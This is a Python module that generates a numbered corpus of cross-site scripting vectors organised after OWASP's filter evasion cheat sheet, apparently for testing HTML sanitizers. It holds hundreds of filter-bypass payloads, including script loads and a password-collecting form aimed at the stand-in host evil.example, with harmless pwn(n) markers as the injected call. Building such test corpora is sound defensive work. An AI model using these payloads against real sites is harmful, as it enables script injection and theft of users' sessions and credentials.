"""Ways to get a script into a page, written after the families of OWASP's XSS filter evasion cheat sheet.

Each one, when it works, calls `pwn(<its number>)`, shows a dialog with its number, or asks evil.example/<its number>.
Tokens: «JS» the call; «DEC» «DEC0» «HEX» an address that calls, in entities (decimal; padded without semicolons; hex);
«CODES» the call as character codes; «EVIL» the foreign address; «N» the number.
"""

FAMILIES = {
    "plain script": """
<script>«JS»</script>
<SCRIPT SRC=«EVIL»></SCRIPT>
<script src=«EVIL» ></script>
<ScRiPt>«JS»</sCrIpT>
<script/XSS SRC="«EVIL»"></script>
<script\t>«JS»</script\t>
<<SCRIPT>«JS»//<</SCRIPT>
<SCRIPT SRC=«EVIL»?< B >
<script>«JS»
<scr<script>ipt>«JS»</scr</script>ipt>
<script type="module">«JS»</script>
<script type=text/javascript defer>«JS»</script>
<script a=">" >«JS»</script>
<script =">" >«JS»</script>
<SCRIPT a='>' >«JS»</SCRIPT>
<script>/*<p>*/«JS»</script>
""",
    "image": """
<img src=x onerror=«JS»>
<IMG SRC=x ONERROR="«JS»">
<img src="x" onerror="alert(«N»)">
<img src=x oNeRrOr=«JS»>
<IMG \"\"\"><SCRIPT>«JS»</SCRIPT>"\\>
<IMG SRC= onmouseover="«JS»">
<img src=x:x onerror=eval(String.fromCharCode(«CODES»))>
<IMG SRC=/ onerror="«JS»"></img>
<img src=x onerror="&#0000112&#0000119&#0000110(«N»)">
<img src=x onerror=&#x70;&#x77;&#x6E;(«N»)>
<img src=x onerror="pwn&lpar;«N»&rpar;">
<IMG SRC="javascript:«JS»">
<IMG SRC=javascript:«JS»>
<IMG SRC=JaVaScRiPt:«JS»>
<IMG SRC=`javascript:«JS»`>
<IMG SRC="jav&#x09;ascript:«JS»">
<IMG SRC="jav&#x0A;ascript:«JS»">
<IMG SRC="jav\\tascript:«JS»">
<IMG DYNSRC="javascript:«JS»">
<IMG LOWSRC="javascript:«JS»">
<img srcset="x 1x" src=y onerror=«JS»>
<img/src=x/onerror=«JS»>
<img\x0csrc=x\x0conerror=«JS»>
<img src=x onerror\x0b=«JS» onerror=«JS»>
<image src=x onerror=«JS»>
<picture><source srcset=x><img src=y onerror=«JS»></picture>
<input type="image" src="x" onerror="«JS»">
<img src=«EVIL»>
<div><img src="x` `<script>«JS»</script>"` `></div>
<img src onerror /" '"= alt=«JS»//">
""",
    "links": """
<a href="javascript:«JS»">klik</a>
<a href=javascript:«JS»>klik</a>
<A HREF="JaVaScRiPt:«JS»">klik</A>
<a href=" javascript:«JS»">klik</a>
<a href="\x01javascript:«JS»">klik</a>
<a href="\x0e javascript:«JS»">klik</a>
<a href="java\tscript:«JS»">klik</a>
<a href="java\rscript:«JS»">klik</a>
<a href="java&#10;script:«JS»">klik</a>
<a href="java\x00script:«JS»">klik</a>
<a href="java&Tab;script:«JS»">klik</a>
<a href="java&NewLine;script:«JS»">klik</a>
<a href="javascript&colon;«JS»">klik</a>
<a href="«DEC»">klik</a>
<a href=«DEC0»>klik</a>
<a href=«HEX»>klik</a>
<a href="javascript:%70wn(«N»)">klik</a>
<a href="%6aavascript:«JS»">klik</a>
<a href="javascript%3A«JS»">klik</a>
<a href="javascript://jarzebin.example/%0A«JS»">klik</a>
<a href="javascript://%5B%0d«JS»">klik</a>
<a href="data:text/html,<script>«JS»</script>">klik</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>
<a href="vbscript:msgbox(«N»)">klik</a>
<a href="feed:javascript:«JS»">klik</a>
<a href="view-source:javascript:«JS»">klik</a>
<a href="livescript:«JS»">klik</a>
<a onmouseover="«JS»">klik</a>
<a onmouseover=«JS»>klik\\</a>
<a href="x" onclick=«JS»>klik</a>
<a href="x" onfocus=«JS» autofocus tabindex=1>klik</a>
<a href="https://jarzebin.example/" target="_blank" onclick='«JS»'>klik</a>
<a title="x" href='javascript:«JS»' rel=x>klik</a>
<a href="#" style="x" onpointerenter="«JS»">klik</a>
<a<a href=javascript:«JS»>klik</a>
<a href="javas\u200bcript:«JS»">klik</a>
<a href="ｊavascript:«JS»">klik</a>
<a href=//evil.example:javascript:«JS»>klik</a>
<a href='j&#97v&#97script&#x3A;«JS»'>klik</a>
<a id=x href="javascript:«JS»" ping="«EVIL»">klik</a>
<area href="javascript:«JS»" shape=default>
<map name=m><area href=javascript:«JS» coords=0,0,9,9></map><img usemap=#m>
""",
    "event handlers": """
<body onload=«JS»>
<BODY ONLOAD="«JS»">
<body onpageshow=«JS»>
<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=«JS»>
<details open ontoggle=«JS»>x</details>
<video src=x onerror=«JS»></video>
<video><source onerror="«JS»"></video>
<audio src=x onerror=«JS»>
<input onfocus=«JS» autofocus>
<select onfocus=«JS» autofocus></select>
<textarea onfocus=«JS» autofocus></textarea>
<keygen onfocus=«JS» autofocus>
<button onfocus=«JS» autofocus>x</button>
<marquee onstart=«JS»>x</marquee>
<p onmouseover=«JS»>x</p>
<p/onmouseover=«JS»>x</p>
<p onclick="«JS»">x</p>
<h1 onmouseover="«JS»">x</h1>
<b onpointerover=«JS»>x</b>
<b/onmouseenter="«JS»">x</b>
<table onclick=«JS»><tr><td onmouseover=«JS»>x</td></tr></table>
<blockquote oncopy=«JS» onmouseover=«JS»>x</blockquote>
<li onmouseover=«JS»>x
<span onmouseover=«JS» lang=pl>x</span>
<time datetime="2026" onmouseover=«JS»>x</time>
<abbr title="x" onmouseover='«JS»'>x</abbr>
<section id=x onmouseover=«JS»>x</section>
<p contenteditable onfocus=«JS» autofocus>x</p>
<style>@keyframes x{from{color:red}}</style><p style="animation-name:x;animation-duration:1ms" onanimationend=«JS»>x</p>
<p style="transition:color 1ms" ontransitionend=«JS»>x</p>
<div onwheel=«JS» onmouseover=«JS»>x</div>
<form onsubmit=«JS»><button>x</button></form>
<xss onclick="«JS»" onmouseover="«JS»" tabindex=1>x</xss>
<xss id=x onfocus=«JS» tabindex=1 autofocus></xss>
""",
    "svg and math": """
<svg onload=«JS»>
<svg/onload=«JS»>
<svg><script>«JS»</script></svg>
<svg><script href="data:,«JS»"></script></svg>
<svg><script>&#112;wn(«N»)</script></svg>
<svg><animate onbegin=«JS» attributeName=x dur=1s>
<svg><set onbegin=«JS» attributename=x to=y>
<svg><a xlink:href="javascript:«JS»"><text x=20 y=20>klik</text></a></svg>
<svg><a><animate attributeName=href values=javascript:«JS» /><text x=20 y=20>klik</text></a></svg>
<svg><image href=x onerror=«JS»></svg>
<svg><foreignObject><img src=x onerror=«JS»></foreignObject></svg>
<svg><style><img src=x onerror=«JS»></style></svg>
<svg><title><img src=x onerror=«JS»></title></svg>
<svg><desc><script>«JS»</script></desc></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='«SVG»'><image href='x' onerror='«JS»'/></svg>#x"></svg>
<svg></p><style><a id="</style><img src=x onerror=«JS»>">
<math><mtext></p><img src=x onerror="«JS»"></math>
<math href="javascript:«JS»">klik</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:«JS»">klik</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=«JS»&gt;">
<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=«JS» src=x>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=«JS»>
<svg><p><style><!--</style><img src=x onerror=«JS»>--></style>
<math><annotation-xml encoding="text/html"><img src=x onerror=«JS»></annotation-xml></math>
<svg xmlns="«SVG»" onload="«JS»"/>
""",
    "style": """
<style>@import'«EVIL»';</style>
<style>body{background:url("«EVIL»")}</style>
<STYLE>li {list-style-image: url("javascript:«JS»");}</STYLE><UL><LI>x</UL>
<p style="background:url(javascript:«JS»)">x</p>
<p style="background-image:url(«EVIL»)">x</p>
<p style="width:expression(«JS»)">x</p>
<p style="xss:expr/*x*/ession(«JS»)">x</p>
<XSS STYLE="behavior: url(«EVIL»);">x</XSS>
<p style="-moz-binding:url('«EVIL»')">x</p>
<link rel="stylesheet" href="«EVIL»">
<LINK REL="stylesheet" HREF="javascript:«JS»">
<link rel=import href=«EVIL»>
<link rel=prefetch href=«EVIL»>
<STYLE TYPE="text/javascript">«JS»</STYLE>
<style></style><img src=x onerror=«JS»></style>
<style>a{}</style/><script>«JS»</script>
""",
    "frames and objects": """
<iframe src="javascript:«JS»"></iframe>
<IFRAME SRC=# onmouseover="«JS»"></IFRAME>
<iframe onload=«JS»></iframe>
<iframe srcdoc="<script>parent.pwn(«N»)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.pwn(«N»)&gt;"></iframe>
<iframe src=«EVIL»></iframe>
<iframe src="data:text/html,<script>alert(«N»)</script>"></iframe>
<FRAMESET><FRAME SRC="javascript:«JS»"></FRAMESET>
<frameset onload=«JS»></frameset>
<object data="javascript:«JS»"></object>
<object data="«EVIL»"></object>
<object data="data:text/html,<script>alert(«N»)</script>"></object>
<OBJECT TYPE="text/x-scriptlet" DATA="«EVIL»"></OBJECT>
<embed src="javascript:«JS»">
<embed src="«EVIL»">
<EMBED SRC="data:image/svg+xml,<svg onload='parent.pwn(«N»)' xmlns='«SVG»'/>">
<applet code=x archive=«EVIL»></applet>
<portal src=«EVIL»></portal>
<base href="«EVIL»/"><script src=x.js></script>
<BASE HREF="javascript:«JS»//"><a href=x>klik</a>
<bgsound src="javascript:«JS»">
<table background="«EVIL»"><tr><td background="«EVIL»">x</table>
""",
    "meta and forms": """
<meta http-equiv="refresh" content="0;url=«EVIL»">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:«JS»">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>alert(«N»)</script>">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>«JS»</SCRIPT>">
<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-«JS»+ADw-/SCRIPT+AD4-
+ADw-script+AD4-«JS»+ADw-/script+AD4-
<form action="javascript:«JS»"><input type=submit value=klik></form>
<form><button formaction="javascript:«JS»">klik</button></form>
<form id=f></form><button form=f formaction=javascript:«JS»>klik</button>
<isindex type=image src=x onerror=«JS»>
<form action="«EVIL»"><input name=haslo><button>klik</button></form>
<input type="text" value=x onmouseover=«JS»>
<dialog open onclose=«JS»><form method=dialog><button>klik</button></form></dialog>
<input type=hidden oncontentvisibilityautostatechange=«JS» style=content-visibility:auto>
""",
    "comments, CDATA, confusion of parsers": """
<!--[if gte IE 4]><SCRIPT>«JS»</SCRIPT><![endif]-->
<!--><script>«JS»</script>-->
<!---><img src=x onerror=«JS»>-->
<!-- --!><img src=x onerror=«JS»>
<!-- x="--><img src=x onerror=«JS»>">
<![CDATA[<script>«JS»</script>]]>
<![><img src="]><img src=x onerror=«JS»//">
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=«JS»>
<? <p title="?><img src=x onerror=«JS»>">
<% <p title="%><img src=x onerror=«JS»>">
</ <p title="><img src=x onerror=«JS»>">
<noscript><p title="</noscript><img src=x onerror=«JS»>">
<noscript><img title="</noscript><script>«JS»</script>"></noscript>
<template><script>«JS»</script></template>
<template><s><template><s><img src=x onerror=«JS»>@shafigullin</s></template></s></template>
<textarea></textarea><img src=x onerror=«JS»>
<title></title><img src=x onerror=«JS»>
<title><p id="</title><img src=x onerror=«JS»>"></title>
</TITLE><SCRIPT>«JS»</SCRIPT>
<xmp><p title="</xmp><svg/onload=«JS»>"></p></xmp>
<plaintext><p></plaintext><img src=x onerror=«JS»>
<noembed><p title="</noembed><img src=x onerror=«JS»>"></noembed>
<noframes><p title="</noframes><img src=x onerror=«JS»>"></noframes>
<iframe><p title="</iframe><img src=x onerror=«JS»>"></iframe>
<select><template><img src=x onerror=«JS»></template></select>
<select><iframe></select><img title="</iframe><img src=x onerror=«JS»>">
<table><td><img src=x onerror=«JS»></table>
<b><p title='</b><img src=x onerror=«JS»>'>
<p title="a`b"onmouseover=«JS»//">x</p>
<a title="</a><img src=x onerror=«JS»>" href=x>x</a>
<abbr title="&quot;><img src=x onerror=«JS»>">x</abbr>
<span id="&lt;/span&gt;&lt;img src=x onerror=«JS»&gt;">x</span>
<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:«JS»">]]></C></X></xml>
<HTML xmlns:xss><?import namespace="xss" implementation="«EVIL»"><xss:xss>x</xss:xss></HTML>
<t:set attributeName="innerHTML" to="x<SCRIPT>«JS»</SCRIPT>">
<o:p><script>«JS»</script></o:p>
<p>x<![if !supportLists]><script>«JS»</script><![endif]></p>
<h1/onmouseover="«JS»">x</h1><h5 onmouseover=«JS»>x</h5>
""",
    "encoded once more, and quotations broken": """
&lt;script&gt;«JS»&lt;/script&gt;
&amp;lt;img src=x onerror=«JS»&amp;gt;
%3Cscript%3E«JS»%3C%2Fscript%3E
%253Cimg%2520src%3Dx%2520onerror%3D«JS»%253E
\\x3cscript\\x3e«JS»\\x3c/script\\x3e
\\u003cimg src=x onerror=«JS»\\u003e
¼script¾«JS»¼/script¾
＜script＞«JS»＜/script＞
"><script>«JS»</script>
'><img src=x onerror=«JS»>
"><img src=x onerror=«JS»>
" onmouseover="«JS»
' onmouseover='«JS»
" autofocus onfocus="«JS»" x="
` onmouseover=«JS» `
--><script>«JS»</script>
*/«JS»/*
';«JS»;//
\\";«JS»;//
</script><script>«JS»</script>
</textarea><img src=x onerror=«JS»>
</style><svg onload=«JS»>
]]><script>«JS»</script>
{{constructor.constructor('«JS»')()}}
{% load x %}{{ x }}<script>«JS»</script>
${«JS»}
<%= «JS» %>
javascript:«JS»
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */«JS» )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=«JS»//>
\x00<script>«JS»</script>
<scr\x00ipt>«JS»</scr\x00ipt>
<img src=x one\x00rror=«JS»>
\ufeff<script>«JS»</script>
\u2028<img src=x onerror=«JS»>
""",
}


def vectors() -> list[str]:
    lines = [line for family in FAMILIES.values() for line in family.replace("\r", "«CR»").split("\n") if line]
    return [_filled(line.replace("«CR»", "\r"), number) for number, line in enumerate(lines)]


def _filled(line: str, number: int) -> str:
    call = f"pwn({number})"
    address = f"javascript:{call}"
    tokens = {
        "JS": call,
        "N": str(number),
        "SVG": "http://www.w3.org/2000/svg",
        "EVIL": f"//evil.example/{number}",
        "CODES": ",".join(str(ord(letter)) for letter in call),
        "DEC": "".join(f"&#{ord(letter)};" for letter in address),
        "DEC0": "".join(f"&#{ord(letter):07}" for letter in address),
        "HEX": "".join(f"&#x{ord(letter):X}" for letter in address),
    }
    for name, text in tokens.items():
        line = line.replace(f"«{name}»", text)
    return line
